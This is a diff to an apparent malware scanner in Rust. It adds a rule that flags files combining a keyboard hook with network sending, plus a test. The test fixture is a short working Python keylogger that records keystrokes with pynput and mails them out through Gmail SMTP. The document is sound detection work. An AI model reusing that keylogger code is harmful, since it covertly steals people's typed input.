@@ -175,6 +175,11 @@ pub const COMBINATIONS: &[Combination] = &[
         weight: 0.45,
     },
     Combination {
+        id: "combo:keylogger-exfil",
+        description: "a keyboard hook and data sent over the network (mail, HTTP, socket) in the same file",
+        weight: 0.6,
+    },
+    Combination {
         id: "combo:stolen-to-endpoint",
         description: "stealer-target access and an exfiltration endpoint in the same file",
         weight: 0.5,
@@ -448,6 +453,18 @@ fn combination_evidence<'f>(
             })?;
             Some((obfuscated, hidden))
         }
+        "combo:keylogger-exfil" => {
+            // pandar: a pynput listener collects every key, and the same file logs in to a
+            // mail account with a password in the source to send them. Hotkey tools hook the
+            // keyboard to act locally; sending out beside the hook is what a keylogger adds.
+            let hook = strongest(findings, |f| {
+                f.has_tag("keylogger") && f.context != ExecContext::TestOrDocs
+            })?;
+            let send = strongest(findings, |f| {
+                f.has_tag("net-send") && f.context != ExecContext::TestOrDocs
+            })?;
+            Some((hook, send))
+        }
         "combo:stolen-to-endpoint" => {
             let steal = strongest(findings, |f| {
                 f.has_tag("stealer-target") && f.context != ExecContext::TestOrDocs
@@ -673,6 +690,19 @@ mod tests {
         let worker = "import subprocess, sys, requests\ndef fetch(url):\n    return requests.get(url).json()\ndef run(path):\n    subprocess.Popen([sys.executable, path])\n";
         let s = score("pkg/pkg/core.py", worker);
         assert!(!has(&s, "combo:fetched-second-stage"), "{s:?}");
+    }
+
+    #[test]
+    fn keystrokes_hooked_beside_a_mailer_are_a_keylogger() {
+        let code = "import smtplib\nfrom pynput import keyboard\nkeys = []\ndef on_press(key):\n    keys.append(str(key))\ndef collect():\n    with keyboard.Listener(on_press=on_press) as listener:\n        listener.join()\ndef send():\n    with smtplib.SMTP_SSL('smtp.gmail.com', 465) as server:\n        server.login('me@gmail.com', 'pw')\n        server.sendmail('me@gmail.com', 'you@gmail.com', ''.join(keys))\n";
+        let s = score("pkg/pkg/core.py", code);
+        assert!(has(&s, "combo:keylogger-exfil"), "{s:?}");
+        assert!(s.malware >= 0.5, "{s:?}");
+        // A hotkey tool hooks the keyboard and acts locally.
+        let hotkeys = "from pynput import keyboard\ndef on_press(key):\n    print(key)\ndef run():\n    with keyboard.Listener(on_press=on_press) as listener:\n        listener.join()\n";
+        let s = score("pkg/pkg/core.py", hotkeys);
+        assert!(!has(&s, "combo:keylogger-exfil"), "{s:?}");
+        assert!(s.malware < 0.3, "{s:?}");
     }
 
     #[test]
